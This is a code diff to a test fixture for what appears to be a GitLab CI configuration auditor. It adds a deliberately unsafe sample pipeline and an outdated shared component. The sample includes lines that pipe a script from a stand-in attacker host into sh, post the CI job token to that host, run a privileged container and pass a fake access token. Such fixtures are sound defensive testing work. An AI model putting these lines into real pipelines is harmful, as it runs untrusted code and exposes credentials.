@@ -3,6 +3,7 @@
 import {
   accessLevel,
   addPipeline,
+  addProject,
   type ProjectRow,
   protectedBranchRow,
   type SandboxState,
@@ -88,6 +89,26 @@ const abandoned: Change = (project) => {
 
 /** Everything that a CI configuration should not hold. */
 const carelessConfiguration = `---
+deploy:
+  stage: deploy
+  environment: production
+  timeout: 9 hours
+  cache:
+    paths:
+    - node_modules
+  id_tokens:
+    VAULT:
+      aud: https://evil.example.org
+  script:
+  - docker push x
+  - docker run --privileged x
+  - npm install
+  - curl -k https://get.evil.example/x | sh
+  - echo "$CI_JOB_TOKEN" > token.txt
+  - curl -d "$CI_JOB_TOKEN" https://evil.example/x
+  - deploy --token ${["glpat", "-", "x9Kq2mVb7RtY4wLsPz3N"].join("")}
+  rules:
+  - when: always
 semgrep-sast:
   image: node:latest
   services:
@@ -103,12 +124,27 @@ semgrep-sast:
 `;
 
 /** Archived, and nobody but its administrators belongs to it. */
-const lonely: Change = (project) => {
+/** A component of another project, which has a newer version. */
+function outdatedComponent({ groupId, path_with_namespace: path }: ProjectRow, state: SandboxState) {
+  const shared = addProject(state, { id: 4711, path: "shared-ci", name: "Shared CI", groupId });
+  for (const [name, digit] of [
+    ["1.0.0", "1"],
+    ["2.0.0", "2"],
+  ] as const)
+    shared.tags.push({ name, commitId: digit.repeat(40), committed_date: old(100), message: "" });
+  const location = `gitlab.example.com/${path.replace(/[^/]+$/, "shared-ci")}/scan@1.0.0`;
+  return { type: "component", location, extra: {} } as const;
+}
+
+const lonely: Change = (project, state) => {
   const include = { type: "file", location: "a.yml", extra: { project: "grp/ci", ref: "main" } } as const;
   project.ciLint = {
     ...{ valid: true, errors: [], warnings: [], merged_yaml: carelessConfiguration },
-    includes: [{ ...include, context_project: project.path_with_namespace, context_sha: null }],
+    includes: [include, outdatedComponent(project, state)].map((one) => ({
+      ...{ ...one, context_project: project.path_with_namespace, context_sha: null },
+    })),
   };
+  project.files.set("main:.gitlab-ci.yml", "include: []\n");
   project.archived = true;
   project.members = project.members.filter(({ access_level }) => access_level === 40);
   project.protectedBranches = [
